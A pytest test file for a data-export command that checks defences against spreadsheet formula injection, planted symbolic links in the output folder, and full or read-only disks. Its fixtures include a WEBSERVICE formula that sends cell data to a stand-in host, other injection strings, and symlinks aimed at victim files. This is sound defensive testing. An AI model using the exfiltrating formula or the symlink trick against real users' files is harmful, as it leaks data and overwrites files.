"""`xxgk export` against hostile names and hostile folders: a report whose agency name is a
spreadsheet formula exports as text (xlsx: text cells; CSV: OWASP's leading quote), numbers
stay numbers; symbolic links planted in the output folder are replaced, never written
through; a full or read-only disk is one line and exit 1, and leaves nothing half-written."""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook

from assets.resources import PROJECT_ROOT
from pipelines.cli import main
from tests.bi_fixture import _set_after
from tests.conftest import SAMPLE_FILES
from tests.pipelines.inbox_run import run_inbox
from warehouse.export import VIEWS, export
from warehouse.loader import connect
from xxgk.normalise import strip_pinyin, to_simplified

QIDONG = next(p for p in SAMPLE_FILES if "qidong" in p.name)
FORMULA = '=WEBSERVICE("http://x?"&B2)办公室'
LEADS = ("=", "+", "-", "@", "\t", "\r")


def cli(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main(list(args))
    return code, out.getvalue(), err.getvalue()


def _formula_reports(inbox: Path) -> None:
    """qidong's report under a formula for a name, for 2023 and 2024; 2024 received 8 fewer
    applications than 2023 (159 against 167), so that v_year_over_year holds negative changes."""
    text = to_simplified(strip_pinyin(QIDONG.read_text(encoding="utf-8")))
    text = text.replace("启东市人民政府办公室", FORMULA).replace("启东市政府办", FORMULA)
    more = _set_after(text, "一、本年新收", ["167", "", "", "", "", "", "167"])
    more = _set_after(more, "(一)予以公开", ["50", "", "", "", "", "", "50"])
    more = _set_after(more, "(七)总计", ["170", "", "", "", "", "", "170"])
    (inbox / "formula-2023.txt").write_text(more, encoding="utf-8")
    (inbox / "formula-2024.txt").write_text(text.replace("2023", "2024"), encoding="utf-8")


@pytest.fixture(scope="module")
def formula_warehouse(tmp_path_factory) -> str:
    root = tmp_path_factory.mktemp("formula")
    inbox = root / "inbox"
    inbox.mkdir()
    _formula_reports(inbox)
    warehouse, _ = run_inbox(root, inbox)
    with connect(warehouse, read_only=True) as con:
        assert con.execute("SELECT DISTINCT agency FROM v_report_overview").fetchall() == [(FORMULA,)]
        assert con.execute("SELECT min(change) FROM v_year_over_year").fetchone()[0] < 0
    return warehouse


# --- 1. formula injection ---------------------------------------------------------------------

def test_xlsx_writes_every_text_as_text_and_numbers_as_numbers(formula_warehouse, tmp_path):
    code, _, err = cli("export", "--to", "xlsx", "--warehouse", formula_warehouse, "--out", str(tmp_path))
    assert code == 0, err
    book = load_workbook(tmp_path / "xxgk.xlsx")  # not read-only: each cell's data_type as written
    agencies, negatives = 0, 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    agencies += cell.value == FORMULA  # the name itself, not a quoted copy
    overview = book["v_year_over_year"]
    header = [c.value for c in overview[1]]  # row 2: the Chinese headers
    for row in overview.iter_rows(min_row=3):
        change = row[header.index("change")]
        if change.value is not None and change.value < 0:
            assert change.data_type == "n" and isinstance(change.value, (int, float))
            negatives += 1
    assert agencies > 0 and negatives > 0


def test_csv_quotes_leading_formula_characters_of_texts_only(formula_warehouse, tmp_path):
    assert cli("export", "--to", "csv", "--warehouse", formula_warehouse, "--out", str(tmp_path))[0] == 0
    with open(tmp_path / "v_report_overview.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows and {r["agency"] for r in rows} == {"'" + FORMULA}
    with open(tmp_path / "v_year_over_year.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    changes = [r["change"] for r in rows if r["change"].startswith("-")]
    assert changes and all(float(c) < 0 for c in changes)  # a negative number is a number, unquoted
    for path in tmp_path.glob("*.csv"):
        with open(path, encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for value in row:
                    if value.startswith(LEADS):
                        float(value)  # only numbers may start so


def _hostile_views(con: duckdb.DuckDBPyConnection) -> None:
    """Stand-ins for the views: a text of each leading character, an error value's name, a
    control character, other texts; negative numbers and decimals."""
    texts = ["=1+2", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "#N/A", "a\x0bb", "'quoted", "plain", "中文"]
    for view in VIEWS:
        con.execute(f"CREATE TABLE {view} (year INTEGER, name VARCHAR, value DOUBLE, amount DECIMAL(10, 1))")
        con.executemany(f"INSERT INTO {view} VALUES (2024, ?, ?, ?)", [[t, -1.5 - i, -i] for i, t in enumerate(texts)])


def test_every_leading_character_is_neutralised(tmp_path):
    con = duckdb.connect()
    _hostile_views(con)
    export(con, "xlsx", tmp_path, say=lambda _: None)
    export(con, "csv", tmp_path, say=lambda _: None)
    book = load_workbook(tmp_path / "xxgk.xlsx")
    for view in VIEWS:
        cells = list(book[view].iter_rows(min_row=3))
        assert all(c[1].data_type == "s" for c in cells)
        assert sorted(c[1].value for c in cells) == sorted(  # a control character, which no cell can hold, left out
            r[0].replace("\x0b", "") for r in con.execute(f"SELECT name FROM {view}").fetchall())
        assert all(c[2].data_type == "n" and c[2].value < 0 for c in cells)
        assert all(c[3].data_type == "n" and isinstance(c[3].value, (int, float)) for c in cells)
        with open(tmp_path / f"{view}.csv", encoding="utf-8", newline="") as fh:
            rows = list(csv.DictReader(fh))
        names = {r["name"] for r in rows}
        assert names == {"'=1+2", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "#N/A", "a\x0bb", "'quoted", "plain", "中文"}
        assert all(float(r["value"]) < 0 for r in rows) and {r["amount"] for r in rows} >= {"-1.0", "0.0"}


# --- 2. planted symbolic links ----------------------------------------------------------------

def test_planted_symlinks_are_not_written_through(formula_warehouse, tmp_path):
    out, victims = tmp_path / "out", tmp_path / "victims"
    out.mkdir()
    victims.mkdir()
    planted = {}
    names = ["xxgk.xlsx", "xxgk.xlsx.tmp", "columns.csv", *(f"{v}.csv" for v in VIEWS), *(f"{v}.csv.tmp" for v in VIEWS)]
    for name in names:
        victim = victims / f"victim-{name}"
        victim.write_text("precious\n")
        (out / name).symlink_to(victim)
        planted[name] = victim
    folder = victims / "folder"  # a view's Parquet folder, and a year's folder in another view
    (folder / "year=2023").mkdir(parents=True)
    (folder / "year=2023" / "part_0.parquet").write_text("precious\n")
    (out / "v_report_overview").symlink_to(folder)
    (out / "v_disclosure_facts").mkdir()
    (out / "v_disclosure_facts" / "year=2023").symlink_to(folder / "year=2023")
    before = {p: p.read_bytes() for p in victims.rglob("*") if p.is_file()}

    for to in ("xlsx", "csv", "parquet"):
        code, _, err = cli("export", "--to", to, "--warehouse", formula_warehouse, "--out", str(out))
        assert code == 0, err
    assert {p: p.read_bytes() for p in victims.rglob("*") if p.is_file()} == before
    for name in ("xxgk.xlsx", "columns.csv", *(f"{v}.csv" for v in VIEWS)):
        assert not (out / name).is_symlink() and (out / name).stat().st_size > 0, name
    assert load_workbook(out / "xxgk.xlsx", read_only=True).sheetnames == [*VIEWS, "columns"]
    for view in ("v_report_overview", "v_disclosure_facts"):
        assert not (out / view).is_symlink() and not (out / view / "year=2023").is_symlink()
        assert (out / view / "year=2023" / "part_0.parquet").stat().st_size > 100
    assert not [p for p in out.iterdir() if p.name.startswith(".")]  # no temporary left


# --- 3. a full or read-only disk --------------------------------------------------------------

def _mount_tmpfs(folder: Path, options: str) -> None:
    folder.mkdir()
    if os.geteuid() != 0:
        pytest.skip("mounting a tmpfs needs root")
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(folder)], capture_output=True, text=True)
    if done.returncode:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.strip()}")


@pytest.fixture
def small_disk(tmp_path):
    folder = tmp_path / "small"
    _mount_tmpfs(folder, "size=64k")
    yield folder
    subprocess.run(["umount", str(folder)], check=True)


@pytest.fixture
def read_only_disk(tmp_path):
    folder = tmp_path / "ro"
    _mount_tmpfs(folder, "ro,size=64k")
    yield folder
    subprocess.run(["umount", str(folder)], check=True)


@pytest.mark.parametrize("to", ["xlsx", "csv", "parquet"])
def test_a_full_disk_is_one_line_and_leaves_nothing(formula_warehouse, small_disk, to):
    out = small_disk / "export"
    filler = small_disk / "filler"  # what the disk holds beside: kept as it was
    filler.write_bytes(b"x" * 24_000)
    # a process of its own: what it prints on its way out (an object collected late) counts too
    done = subprocess.run([sys.executable, "-m", "pipelines.cli", "export", "--to", to, "--warehouse", formula_warehouse,
                           "--out", str(out)], capture_output=True, text=True, cwd=PROJECT_ROOT, timeout=300)
    assert done.returncode == 1, done.stderr
    assert done.stderr.startswith(f"xxgk export: cannot write {out}/") and done.stderr.count("\n") == 1, done.stderr
    assert done.stderr.endswith(": No space left on device\n"), done.stderr
    assert filler.read_bytes() == b"x" * 24_000
    assert sorted(p.relative_to(out) for p in out.rglob("*")) == []  # no temporary, no export half-done


@pytest.mark.filterwarnings("error::pytest.PytestUnraisableExceptionWarning")
@pytest.mark.parametrize("to", ["xlsx", "csv", "parquet"])
def test_a_read_only_disk_is_one_line(formula_warehouse, read_only_disk, tmp_path, to):
    code, _, err = cli("export", "--to", to, "--warehouse", formula_warehouse, "--out", str(read_only_disk))
    assert code == 1 and err == f"xxgk export: cannot write {read_only_disk}: Read-only file system\n", err
    not_a_folder = tmp_path / "file"
    not_a_folder.write_text("a file\n")
    code, _, err = cli("export", "--to", to, "--warehouse", formula_warehouse, "--out", str(not_a_folder / "export"))
    assert code == 1 and err == f"xxgk export: cannot write {not_a_folder / 'export'}: Not a directory\n", err
    assert not_a_folder.read_text() == "a file\n"
